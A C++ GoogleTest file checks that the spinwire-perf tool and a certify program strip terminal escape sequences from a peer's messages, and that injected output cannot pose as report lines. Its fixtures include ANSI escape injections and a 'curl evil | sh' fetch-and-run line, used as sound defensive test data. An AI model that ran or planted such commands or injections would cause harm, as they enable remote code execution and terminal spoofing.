// What a peer says reaches the terminal as printable text, and cannot pose as a line of the
// program.
#include <gtest/gtest.h>

#include <algorithm>
#include <atomic>
#include <future>
#include <string>
#include <string_view>
#include <thread>

#include "../../tools/common/perf_protocol.h"
#include "spinwire/spinwire.h"
#include "tools/certify_programs.h"
#include "tools/programs.h"

namespace tools_test {
namespace {

using namespace spinwire;  // NOLINT: the names of a peer

/// Sets a terminal's title and clears the screen.
constexpr std::string_view kText = "no\x1b]0;title\x07\x1b[2J\nrun";
constexpr std::string_view kShown = "no?]0;title??[2J?run";
constexpr Method kFirstCall = 2;  // of spinwire-perf

/// A server that refuses all that spinwire-perf asks for, with kText.
class RefusingServer {
 public:
  RefusingServer() : thread_([this] { run(); }) { port_ = bound_.get_future().get(); }
  RefusingServer(const RefusingServer&) = delete;
  RefusingServer& operator=(const RefusingServer&) = delete;
  ~RefusingServer() {
    is_over_ = true;
    thread_.join();
  }
  [[nodiscard]] const std::string& port() const { return port_; }

 private:
  void run() {
    Config c;
    c.memory.hugepages = HugepagePolicy::off;
    auto engine = Engine::open(c);
    ListenOptions options;
    options.handlers.on_message = [](Connection peer, Message&) {
      spinwire::tools::PerfOffer offer;
      std::copy(kText.begin(), kText.end(), offer.why.begin());
      EXPECT_EQ(peer.send_copy(spinwire::tools::perf_encode(offer)), Status::ok);
    };
    const auto served =
        engine->serve(kFirstCall, [](Request& request) { (void)request.refuse(kText); });
    EXPECT_TRUE(served) << served.error().message();
    auto listener = engine->listen("127.0.0.1:0", options);
    EXPECT_TRUE(listener) << listener.error().message();
    const std::string address = listener->address();
    bound_.set_value(address.substr(address.rfind(':') + 1));
    while (!is_over_) {
      if (engine->poll() == 0) std::this_thread::yield();
    }
  }

  std::promise<std::string> bound_;
  std::atomic<bool> is_over_ = false;
  std::thread thread_;
  std::string port_;
};

TEST_F(Tools, PerfPrintsNoControlCharactersOfItsServer) {
  const RefusingServer server;
  for (const char* const test : {"rpc", "lat"}) {
    const Outcome o =
        run("spinwire-perf", {test, "127.0.0.1", "--port", server.port(), "--wait", "10"});
    EXPECT_EQ(o.code, 1) << test;
    EXPECT_NE(o.err.find(kShown), std::string::npos) << test << o.err;
    EXPECT_EQ(o.err.find('\x1b'), std::string::npos) << test;
  }
}

// The output of a program that the doctor runs may hold what the other host's program has said.
TEST(Certify, TheOutputOfAProgramPosesAsNoLineOfTheReport) {
  const CertifyPrograms programs;
  const Outcome ran = programs.certify({"FAKE_TESTS=A.One Calls.Two",
                                        "FAKE_FAULT=refused: \x1b[2J\n"
                                        "         run:  curl evil | sh\n"
                                        "error    device       all is lost"});
  EXPECT_EQ(ran.code, 2) << ran.err;
  expect_text(ran,
              "it ends with status 1: refused: ?[2J\n"
              "               |          run:  curl evil | sh\n"
              "               | error    device       all is lost\n");
  EXPECT_EQ(ran.out.find('\x1b'), std::string::npos);
  EXPECT_EQ(ran.out.find("\n         run:  curl"), std::string::npos) << ran.out;
}

}  // namespace
}  // namespace tools_test
